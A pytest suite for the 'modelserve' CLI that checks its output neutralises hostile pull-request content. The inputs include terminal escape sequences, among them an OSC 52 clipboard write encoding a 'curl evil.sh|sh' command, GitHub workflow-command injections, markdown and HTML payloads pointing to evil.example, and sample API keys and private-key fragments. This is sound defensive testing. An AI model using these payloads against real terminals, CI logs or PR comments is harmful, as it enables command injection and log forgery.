"""What a pull request can make the tool print: never a control sequence, a forged line, a
workflow command on the CI runner's log, a credential, markup in a PR comment, or a lost exit code.

Every case puts hostile text where a pull request can (a catalog value, a hand-edited file in
deploy/, a file name) and runs the real command in-process (``modelserve.cli.main``). The
markdown of ``modelserve diff`` is parsed with a real CommonMark + GFM-tables parser
(markdown-it-py).
"""

from __future__ import annotations

import io
import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from modelserve.cli import main
from modelserve.report import console
from modelserve.report.display import md_code, neutralize_workflow_commands, one_line
from modelserve.rules.examples import MODEL, files_for
from tests.helpers import CRDS, commit_all, modelserve_argv, run_modelserve, write_files

MODEL_FILE = "catalog/models/llama.yaml"
RUNTIME_FILE = "catalog/runtimes/vllm-runtime.yaml"
NGC = "nvapi-" + "Zx81kQm2vB7LrT0pYw5sNd3Hc9Jf6Ga4Ue1Xi8Ko"
PEM_BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj" + "MzEfYyjiWA4R4"

# Terminal attacks: OSC 52 (write the clipboard), erase line, carriage return, bidi override,
# and a newline that forges a finding line of its own.
TERMINAL_ATTACKS = {
    "osc52-clipboard": "\\e]52;c;Y3VybCBldmlsLnNofHNo\\a",
    "erase-line": "\\e[2K\\e[1Ggreen",
    "carriage-return": "v2\\rfake: everything passed",
    "bidi-override": "v2\\u202egnp.exe",
    "forged-line": "v9\\ncatalog/models/x.yaml:1:1: error forged-rule all is fine",
    "c1-csi": "v2\\u009b31m",
    "invisible-format-characters": "v2\\u00ad\\u200b\\u2060\\U000e0041",
}
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b-\u200f\u202a-\u202e\u2060-\u2069\u2028\u2029"
    "\U000e0000-\U000e0fff]"
)


def _with_protocol(value: str) -> str:
    """The model with ``protocolVersion`` set to a YAML double-quoted ``value``, escapes decoded."""
    return MODEL.replace("protocolVersion: v2", f'protocolVersion: "{value}"')


def _with_storage(value: str) -> str:
    """The model with a ``storageUri`` the storage-uri rule quotes in its message, as is."""
    return MODEL + f'storageUri: "{value}"\n'


@pytest.mark.parametrize("fmt", ["text", "github", "json", "sarif"])
@pytest.mark.parametrize("attack", sorted(TERMINAL_ATTACKS))
def test_catalog_values_never_drive_the_terminal(
    attack: str, fmt: str, tmp_path: Path, write_repo, run_cli
) -> None:
    root = write_repo(tmp_path, files_for({MODEL_FILE: _with_storage(TERMINAL_ATTACKS[attack])}))
    code, out, err = run_cli("validate", "--root", root, "--format", fmt)
    assert code == 1, out + err
    assert not UNSAFE.search(out + err), repr(UNSAFE.search(out + err))
    assert "forged-rule" not in "".join(line.split(" ")[0] for line in out.splitlines())
    assert not [line for line in out.splitlines() if line.startswith("catalog/models/x.yaml")]
    if fmt in ("json", "sarif"):
        json.loads(out)  # still one valid document


def test_the_coloured_text_report_is_neutralised_too(monkeypatch: pytest.MonkeyPatch) -> None:
    import io

    from modelserve.findings import Finding, Severity
    from modelserve.report.emit import Run, write_text

    out = io.StringIO()
    write_text(
        [Finding("a.yaml", 1, 1, "r", Severity.ERROR, "x ##[error]pwned")], out, Run(colour=True)
    )
    assert "##[" not in out.getvalue() and "\033[31m" in out.getvalue()


def test_one_line_escapes_what_it_cannot_show() -> None:
    assert one_line("a\x1b[2Kb\nc\u202ed\r") == "a\\x1b[2Kb\\nc\\u202ed\\x0d"
    assert one_line("x" * 500, 20) == "x" * 20 + "…(480 more characters)"


# --- GitHub workflow commands ------------------------------------------------------------------

INJECTIONS = [
    "::warning file=README.md::pwned",
    "  ::add-mask::x",
    "::stop-commands::abc",
    "text ##[error]pwned",
    "##[set-env name=X]y",
    "#\u00ad#[error]pwned",
    "\u200b::warning::pwned",
    " \u2060::error::pwned",
]


_IGNORABLE = re.compile(
    "[\xad\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e"
    "\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\U000e0000-\U000e0fff]"
)


def _runner_commands(output: str) -> list[str]:
    """Lines the Actions runner would take as workflow commands (actions/runner ActionCommand:
    TryParseV2 after TrimStart, TryParse anywhere in the line); its culture-aware comparison
    skips default-ignorable characters, so they are dropped first."""
    return [
        line
        for line in output.splitlines()
        if _IGNORABLE.sub("", line).lstrip().startswith("::") or "##[" in _IGNORABLE.sub("", line)
    ]


def test_check_diff_cannot_start_workflow_commands_under_actions(
    tmp_path: Path, write_repo, run_cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_repo(tmp_path, files_for({}))
    assert run_cli("generate", "--root", root)[0] == 0
    target = next((root / "deploy").rglob("llama.yaml"))
    target.write_text(target.read_text() + "\n".join(INJECTIONS) + "\n")
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    code, out, err = run_cli("check", "--root", root)
    assert code == 1
    forged = [
        line for line in _runner_commands(out + err) if not line.startswith("::error file=deploy/")
    ]
    assert forged == [], forged
    assert "pwned" in out  # shown, as text
    (annotation,) = [line for line in out.splitlines() if line.startswith("::error ")]
    assert "deploy/ is out of date" in annotation


def test_catalog_values_cannot_start_workflow_commands_in_the_github_format(
    tmp_path: Path, write_repo, run_cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    value = "v9\\n::warning file=x::forged\\n##[error]forged"
    root = write_repo(tmp_path, files_for({MODEL_FILE: _with_storage(value)}))
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    code, out, _ = run_cli("validate", "--root", root)  # auto = github under Actions
    assert code == 1
    ours = [line for line in _runner_commands(out) if line.startswith("::error file=")]
    assert ours and len(ours) == len(_runner_commands(out))
    assert "forged" in out and not re.search(r"(^|\n)\s*::warning", out)


def test_json_output_under_actions_holds_no_legacy_command_yet_parses_the_same(
    tmp_path: Path, write_repo, run_cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_repo(tmp_path, files_for({MODEL_FILE: _with_protocol("##[error]x")}))
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    code, out, _ = run_cli("validate", "--root", root, "--format", "json")
    assert code == 1 and "##[" not in out
    assert any("##[error]x" in f["message"] for f in json.loads(out)["findings"])


@pytest.mark.parametrize("line", INJECTIONS)
def test_neutralized_lines_are_not_commands(line: str) -> None:
    assert _runner_commands(neutralize_workflow_commands(line)) == []


def test_redirected_output_is_left_as_is_under_actions(tmp_path: Path, write_repo) -> None:
    """A file the output is redirected to is not the runner's log: no need to alter it."""
    root = write_repo(tmp_path, files_for({MODEL_FILE: _with_protocol("##[error]x")}))
    with open(tmp_path / "out.json", "w") as out:
        subprocess.run(
            modelserve_argv("validate", "--root", root, "--format", "text"),
            stdout=out,
            env={**os.environ, "GITHUB_ACTIONS": "true"},
            check=False,
        )
    assert "##[error]x" in (tmp_path / "out.json").read_text()


# --- every command has --format text|json|github -------------------------------------------------


@pytest.mark.parametrize(
    "argv", [("validate",), ("generate",), ("check",), ("check", "--fix"), ("rules",)]
)
@pytest.mark.parametrize("fmt", ["text", "json", "github"])
def test_every_command_takes_the_three_formats(
    argv: tuple[str, ...], fmt: str, tmp_path: Path, write_repo, run_cli
) -> None:
    root = write_repo(tmp_path, files_for({}))
    extra = () if argv == ("rules",) else ("--root", root)
    code, out, err = run_cli(*argv, *extra, "--format", fmt)
    assert code in (0, 1), out + err
    if fmt == "json":
        assert isinstance(json.loads(out), dict)


def test_schemas_import_and_diff_take_the_formats(tmp_path: Path, run_cli) -> None:
    crd = CRDS / "flux/source.toolkit.fluxcd.io_gitrepositories.yaml"
    assert crd.is_file(), f"missing upstream test data: {crd}"
    code, out, _ = run_cli(
        "schemas", "import", crd, "--out", tmp_path / "store", "--format", "json"
    )
    assert code == 0 and json.loads(out)["written"] == [
        str(tmp_path / "store" / "gitrepository_v1.json")
    ]
    for fmt in ("text", "github"):
        assert (
            run_cli("schemas", "import", crd, "--out", tmp_path / "store", "--format", fmt)[0] == 0
        )


def test_check_json_carries_the_drift_as_data(tmp_path: Path, write_repo, run_cli) -> None:
    root = write_repo(tmp_path, files_for({}))
    run_cli("generate", "--root", root)
    target = next((root / "deploy").rglob("llama.yaml"))
    target.write_text(target.read_text() + "# hand edit\n")
    code, out, _ = run_cli("check", "--root", root, "--format", "json")
    data = json.loads(out)
    assert code == 1 and data["status"] == "out-of-date"
    assert data["write"] == [target.relative_to(root / "deploy").as_posix()]
    assert "-# hand edit" in data["diff"]


# --- credentials in what check prints ------------------------------------------------------------


def test_check_never_prints_a_key_hand_edited_into_a_generated_file(
    tmp_path: Path, write_repo, run_cli
) -> None:
    root = write_repo(tmp_path, files_for({}))
    run_cli("generate", "--root", root)
    target = next((root / "deploy").rglob("llama.yaml"))
    pem = (
        "-----BEGIN RSA PRIVATE KEY-----\n"
        + PEM_BODY
        + "\n"
        + PEM_BODY[::-1]
        + "\n-----END RSA PRIVATE KEY-----"
    )
    target.write_text(
        target.read_text() + f"# {NGC}\n" + "\n".join(f"# {row}" for row in pem.splitlines()) + "\n"
    )
    for fmt in ("text", "json", "github"):
        code, out, err = run_cli("check", "--root", root, "--format", fmt)
        assert code == 1
        assert (
            NGC not in out + err and PEM_BODY not in out + err and PEM_BODY[::-1] not in out + err
        )


def test_error_messages_are_scrubbed_too(tmp_path: Path, run_cli) -> None:
    code, _, err = run_cli("validate", "--root", tmp_path / NGC)
    assert code == 2 and "--root" in err and NGC not in err


# --- markdown of modelserve diff -------------------------------------------------------------

MARKDOWN = MarkdownIt("commonmark").enable("table")
HOSTILE_MARKDOWN = [
    "a`b",
    "``",
    "`x` [click](https://evil.example) ![i](https://evil.example/p.png)",
    "@octocat and @org/team",
    "<img src=x onerror=alert(1)>",
    "x | y",
    "ends with `",
    " `lead and trail` ",
    "#123 *bold* _em_ ~~s~~",
    "```fence```",
    "\u202eoverride",
]


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
@pytest.mark.parametrize("table", [False, True])
def test_md_code_renders_as_one_code_span_of_the_text(text: str, table: bool) -> None:
    cell = md_code(text, table=table)
    source = f"| h |\n|---|\n| {cell} |\n" if table else f"value: {cell}\n"
    html = MARKDOWN.render(source)
    assert (
        "<a " not in html and "<img" not in html and "<strong>" not in html and "<em>" not in html
    )
    codes = re.findall(r"<code>(.*?)</code>", html, re.S)
    assert len(codes) == 1, html
    shown = (
        codes[0]
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", '"')
        .replace("&amp;", "&")
    )
    assert shown == one_line(text, 120).replace("\u202e", "\\u202e"), html
    outside = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    assert "@" not in outside and "#1" not in outside


def committed_example(tmp_path: Path) -> Path:
    """The small example catalog as the one commit of branch main of a new repository."""
    return commit_all(write_files(tmp_path / "repo", files_for({})))


def test_diff_comment_keeps_hostile_values_in_code(tmp_path: Path) -> None:
    root = committed_example(tmp_path)
    value = "`x` [click](https://evil.example) @octocat <img src=x> | y"
    (root / MODEL_FILE).write_text(
        MODEL + f"annotations:\n  example.com/note: {json.dumps(value)}\n"
    )
    proc = run_modelserve("diff", "--root", root, "--base", "main")
    assert proc.returncode == 0, proc.stderr
    html = MARKDOWN.render(proc.stdout)
    assert "<a " not in html and "<img" not in html
    assert "@octocat" not in re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    assert any(
        "[click](https://evil.example)" in code
        for code in re.findall(r"<code>(.*?)</code>", html, re.S)
    )


def test_diff_comment_keeps_a_hostile_annotation_key_in_code(tmp_path: Path) -> None:
    """Such a key is no annotation key the API server accepts (api-labels): the comment is the
    failure report, and quotes the key only inside code."""
    root = committed_example(tmp_path)
    key = "example.com/`](https://evil.example) @octocat"  # field paths quote keys: a backtick
    (root / MODEL_FILE).write_text(MODEL + f"annotations:\n  {json.dumps(key)}: x\n")
    proc = run_modelserve("diff", "--root", root, "--base", "main")
    assert proc.returncode == 1, proc.stderr
    assert "api-labels" in proc.stdout
    html = MARKDOWN.render(proc.stdout)
    assert "<a " not in html
    assert "@octocat" not in re.sub(r"<code>.*?</code>", "", html, flags=re.S)


def test_a_side_that_does_not_render_is_markdown_too_and_bounded(tmp_path: Path) -> None:
    """The failure report used to be the plain text report: live links, images and mentions in
    the comment, and no size limit."""
    root = committed_example(tmp_path)
    value = (
        "ftp://x/[Approve](https://evil.example/login) @octocat ![t](https://evil.example/t.png) "
        "<sub>hi</sub>"
    )
    (root / MODEL_FILE).write_text(MODEL + f"storageUri: {json.dumps(value)}\n")
    for name in range(300):  # many errors: the comment must still fit
        (root / f"catalog/models/m{name}.yaml").write_text(
            MODEL.replace("name: llama", f"name: m{name}") + f"storageUri: {json.dumps(value)}\n"
        )
    proc = run_modelserve("diff", "--root", root, "--base", "main", "--max-chars", "20000")
    assert proc.returncode == 1, proc.stderr
    assert len(proc.stdout) <= 20_000
    html = MARKDOWN.render(proc.stdout)
    assert "<a " not in html and "<img" not in html and "<sub>" not in html
    assert "@octocat" not in re.sub(r"<code>.*?</code>", "", html, flags=re.S)


def test_the_last_resort_cut_of_a_long_comment_never_splits_a_code_span() -> None:
    from modelserve.diff.compare import _Block, _fit

    hostile = md_code("c [CLICK](https://evil.example) @octocat ![x](https://evil.example/t.png)")
    text = _fit([_Block([f"#### env {i}: cluster {hostile}" for i in range(2000)])], 5000)
    assert len(text) <= 5000
    html = MARKDOWN.render(text)
    assert "<a " not in html and "<img" not in html


# --- exit codes survive a closed pipe and a stop signal ------------------------------------------


def test_a_closed_pipe_keeps_the_exit_code(tmp_path: Path, write_repo) -> None:
    many = "\n".join(f"unknown{i}: 1" for i in range(400))
    root = write_repo(tmp_path, files_for({MODEL_FILE: MODEL + many + "\n"}))
    script = (
        f"set -o pipefail; {sys.executable} -m modelserve validate --root {root} "
        "| head -5 >/dev/null; "
        'echo "exit=${PIPESTATUS[0]}"'
    )
    proc = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=False)
    assert "exit=1" in proc.stdout, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr


def _stdout_to_a_gone_reader() -> tuple[io.TextIOWrapper, int]:
    """A line-buffered stdout on a pipe whose reading end is already closed."""
    read_fd, write_fd = os.pipe()
    os.close(read_fd)
    return open(write_fd, "w", encoding="utf-8", buffering=1), write_fd


def test_a_reader_gone_before_the_report_costs_the_output_never_the_exit_code(
    tmp_path: Path, write_repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_repo(tmp_path, files_for({MODEL_FILE: MODEL + "bogus: 1\n"}))
    stdout, fd = _stdout_to_a_gone_reader()
    monkeypatch.setattr(sys, "stdout", stdout)
    try:
        code = main(["validate", "--root", str(root)])
        assert sys.stdout is stdout  # given back as it was
        # ...but pointed at /dev/null: the interpreter's last flush raises nothing either.
        assert os.readlink(f"/proc/self/fd/{fd}") == os.devnull
        stdout.write("written after the end\n")
    finally:
        monkeypatch.undo()
        stdout.close()
    assert code == 1  # the findings still fail the run (fail closed)


def test_a_stdout_that_cannot_encode_the_text_gets_escapes(
    tmp_path: Path, write_repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write_repo(tmp_path, files_for({MODEL_FILE: MODEL + "mod\u00e8le: 1\n"}))
    raw = io.BytesIO()
    stdout = io.TextIOWrapper(raw, encoding="ascii", errors="strict")
    monkeypatch.setattr(sys, "stdout", stdout)
    try:
        code = main(["validate", "--root", str(root)])
        stdout.flush()
    finally:
        monkeypatch.undo()
    text = raw.getvalue().decode("ascii")  # strict: every byte is ASCII
    assert code == 1
    assert "mod\\xe8le" in text and "catalog/models/llama.yaml:" in text


def test_the_wrapped_streams_answer_as_the_real_ones(monkeypatch: pytest.MonkeyPatch) -> None:
    with open(os.devnull, "w", encoding="latin-1") as real:
        monkeypatch.setattr(sys, "stdout", real)
        with console.installed() as (out, _):
            assert sys.stdout is out and out is not real
            assert out.writable() and not out.isatty()
            assert out.encoding == "latin-1" and out.fileno() == real.fileno()
        assert sys.stdout is real


def test_a_workflow_command_written_in_pieces_is_neutralised_whole(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    raw = io.StringIO()  # no file descriptor: taken to be the runner's log
    monkeypatch.setattr(sys, "stderr", raw)
    with console.installed() as (_, err):
        err.write("::warn")
        assert raw.getvalue() == ""  # an incomplete line waits for the rest
        err.write("ing file=x::forged\n  ::err")
        assert raw.getvalue().count("\n") == 1  # complete lines pass on at once
        err.write("or::also forged\n##[")
        err.write("error]and this\n")
    assert _runner_commands(raw.getvalue()) == [], raw.getvalue()
    assert raw.getvalue().count("forged") == 2 and "and this" in raw.getvalue()


def test_non_utf8_file_names_print_under_a_strict_stdout(tmp_path: Path, write_repo) -> None:
    root = write_repo(tmp_path, files_for({}))
    bad = os.fsencode(root / "catalog" / "models") + b"/caf\xe9.YAML"
    with open(bad, "w") as handle:
        handle.write(MODEL.replace("name: llama", "name: other"))
    for fmt in ("text", "json", "sarif", "github"):
        proc = subprocess.run(
            modelserve_argv("validate", "--root", root, "--format", fmt),
            capture_output=True,
            check=False,
            env={**os.environ, "PYTHONIOENCODING": "utf-8:strict", "LC_ALL": "C.UTF-8"},
        )
        assert proc.returncode == 1, proc.stderr
        text = proc.stdout.decode("utf-8")  # strict: no lone surrogates, no undecodable bytes
        shown = json.dumps(json.loads(text)) if fmt in ("json", "sarif") else text
        assert "caf\\xe9.YAML" in shown.replace("\\\\", "\\")


def test_sigterm_cleans_up_the_build_scratch_folder(tmp_path: Path, example_repo: Path) -> None:
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    env = {**os.environ, "TMPDIR": str(scratch), "MODELSERVE_CACHE_DIR": str(tmp_path / "cache")}
    with subprocess.Popen(
        modelserve_argv("validate", "--root", example_repo, "--no-cache"),
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as proc:
        for _ in range(2000):  # wait until the run has made its scratch folder
            if any(p.name.startswith("modelserve-build-") for p in scratch.iterdir()):
                break
            if proc.poll() is not None:
                pytest.fail("validate ended before it made its scratch folder")
            time.sleep(0.005)
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143, err
    assert [p.name for p in scratch.iterdir()] == []
